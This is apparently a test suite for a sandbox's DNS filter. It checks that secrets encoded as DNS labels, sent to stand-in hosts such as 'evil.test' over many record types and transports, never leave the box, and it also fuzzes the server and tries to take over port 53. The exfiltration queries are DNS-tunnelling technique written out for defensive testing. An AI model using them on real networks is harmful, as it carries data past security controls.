"""Names as a way out: no question about an ungranted name, and no packet, leaves the box."""
from networld import *

MARK = "s3cr3tmark"

# Questions written by hand, over UDP and TCP, to both of the box's servers.
ASK = PRELUDE + """
def wire(name):
    return b"".join(bytes([len(l)]) + l for l in name.split(b".") if l) + b"\\0"
def question(name, kind, klass=1, number=7):
    return struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + wire(name) + \\
        struct.pack(">HH", kind, klass)
def udp(packet, host="127.0.0.1", wait=2):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                       socket.SOCK_DGRAM) as s:
        s.settimeout(wait)
        s.connect((host, 53))
        s.send(packet)
        return s.recv(4096)
def tcp(packet, host="127.0.0.1"):
    with socket.create_connection((host, 53), 5) as s:
        s.sendall(struct.pack(">H", len(packet)) + packet)
        return s.recv(4096)[2:]
def code(reply):
    return reply[3] & 15
"""


def leaves(packets):
    """The packets that are not the test's own answers to the broker."""
    return [p for p in packets if MARK.encode() in p.lower()]


@scenario
def exfiltration():
    """Secrets as labels, in every type, over every way to ask: NXDOMAIN, and nothing outside."""
    resolver = Resolver({"good.test": [GOOD], "granted.test": [GOOD]})
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:  # the control: seen outside
        s.connect((DNS, 53))
        capture = Capture()
        s.send(struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x0a" + MARK.encode() +
               b"\x04evil\x04test\0" + struct.pack(">HH", 16, 1))
        s.settimeout(5)
        s.recv(512)
        expect(leaves(capture.close()), "the capture does not see what leaves")
        expect(resolver.asked.pop() == (f"{MARK}.evil.test", 16))
    capture = Capture()
    b = box(["--allow-host", "granted.test:80", "--allow-host", "*.deep.test"], ASK + f"""
mark = b"{MARK}"
names = [mark + b".evil.test", mark + b".granted.test", mark, mark + b".test",
         b"granted.test." + mark, b"deep.test", mark + b".deep.test.evil.test",
         b".".join([mark * 6] * 3), b".".join([mark] * 22), mark + b"\\0.evil.test",
         mark + b" .evil.test", b"\\xff" + mark + b".evil.test", mark + b".localhost",
         mark + b".in-addr.arpa", b"4.3.2.1." + mark + b".arpa"]
codes = set()
for name in names:
    for kind in 1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 255, 65399:
        codes.add(code(udp(question(name, kind))))
        codes.add(code(udp(question(name, kind), "::1")))
    codes.add(code(tcp(question(name, 16))))
    codes.add(code(tcp(question(name, 10), "::1")))
print(sorted(codes))
begin = time.monotonic()
for i in range(5000): udp(question(mark + b"%d.evil.test" % i, 1))
print(time.monotonic() - begin)
# What is in EDNS options, in records and after a question stays as well.
option = struct.pack(">HHIH", 41, 4096, 0, 4 + len(mark)) + struct.pack(">HH", 65001, len(mark)) + mark
packet = question(b"granted.test", 16)
udp(packet[:10] + b"\\0\\x01" + packet[12:] + b"\\0" + option)
udp(packet + mark)
udp(question(b"granted.test", 1, number=struct.unpack(">H", mark[:2])[0]))
udp(question(b"GRANTED.teST", 1))
for call in (lambda: socket.getaddrinfo("{MARK}.evil.test", 80),
             lambda: socket.gethostbyname("{MARK}.granted.test")): how(call)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # past the box's own server
s.settimeout(0.5)
s.connect(("{DNS}", 53))
s.send(question(mark + b".evil.test", 16))
how(lambda: s.recv(99))""").ok()
    lines = b.out.split("\n")
    expect(lines[0] == "[3]", b.out, b.err)
    expect(float(lines[1]) < 5 * PATIENCE, b.out)  # none of 5,000 answers was waited for
    expect(lines[2:5] == ["gai -2", "gai -2", "ECONNREFUSED"], b.out)
    expect(not leaves(capture.close()), "a packet with the mark left")
    expect({name for name, kind in resolver.asked} == {"granted.test"}, resolver.asked)
    expect({kind for name, kind in resolver.asked} <= {1, 28}, resolver.asked)
    expect(len(b.result["refused"]) <= 257, len(b.result["refused"]))
    expect(sum(e["count"] for e in b.result["refused"]) >= 5000, "not all are counted")
    entry = b.refused(f"{MARK}.evil.test")
    expect(entry["kind"] == "dns" and entry["grant"] == f"--allow-host {MARK}.evil.test", entry)


@scenario
def malformed():
    """Packets that are none: the server lives on, and answers the next question."""
    Resolver({"granted.test": [GOOD]})
    b = box(["--allow-host", "granted.test"], ASK + """
import random
random.seed(3)
good = question(b"granted.test", 1)
def poke(packet, host):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(packet, (host, 53))
for i in range(20000):
    packet = bytearray(good if i % 2 else os.urandom(random.randrange(600)))
    for j in range(random.randrange(5)):
        if packet: packet[random.randrange(len(packet))] = random.choice((0, 1, 12, 0xc0, 0xff, 63))
    poke(bytes(packet[:random.randrange(len(packet) + 1)]), ("127.0.0.1", "::1")[i % 7 == 0])
poke(good[:12] + b"\\xc0\\x0c" + good[-4:], "127.0.0.1")
poke(good + bytes(8000), "127.0.0.1")
for packet in b"", b"\\0", b"\\xff\\xff" + bytes(70000), struct.pack(">H", 12) + bytes(12), \\
        (struct.pack(">H", len(good)) + good) * 300, struct.pack(">H", 0) * 3000:
    with socket.create_connection(("127.0.0.1", 53), 5) as s:
        try: s.sendall(packet)
        except OSError: pass
idle = [socket.create_connection(("127.0.0.1", 53), 5) for i in range(200)]
time.sleep(0.2)
print(code(udp(good)), code(udp(good, "::1")))
how(lambda: socket.gethostbyname("granted.test") and None)
for s in idle: s.close()
time.sleep(0.2)
print(code(tcp(good)))""").ok()
    expect(b.out == "0 0\nok\n0\n", b.out, b.err)


@scenario
def taking_the_servers_place():
    """The box's own port 53 is taken, and what a box binds changes nothing outside it."""
    server = Server()
    Resolver({"granted.test": [GOOD]})
    b = box(["--allow-host", f"granted.test:{server.port}"], PRELUDE + f"""
def bind(kind, host, port, reuse):
    s = socket.socket(socket.AF_INET, kind)
    if reuse:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((host, port))
    if kind == socket.SOCK_STREAM: s.listen()
    kept.append(s)
kept = []
for reuse in 0, 1:
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        for host in "127.0.0.1", "0.0.0.0":
            how(lambda: bind(kind, host, 53, reuse))
address = socket.gethostbyname("granted.test")
for reuse in 0, 1:
    for host in address, "0.0.0.0":
        how(lambda: bind(socket.SOCK_STREAM, host, {server.port}, reuse))
how(lambda: call("granted.test", {server.port}))""").ok()
    expect(b.out == "EADDRINUSE\n" * 12 + "ok b'hello'\n", b.out)
    # Before the name was asked for its port is free: the box then talks to itself.
    b = box(["--allow-host", f"granted.test:{server.port}"], PRELUDE + f"""
s = socket.create_server(("0.0.0.0", {server.port}))
how(lambda: socket.create_connection(("granted.test", {server.port}), 5).close())
c, _ = s.accept()
print("mine")""").ok()
    expect(b.out == "ok\nmine\n", b.out, b.err)
    expect(len(server.calls) == 1, server.calls)


run()
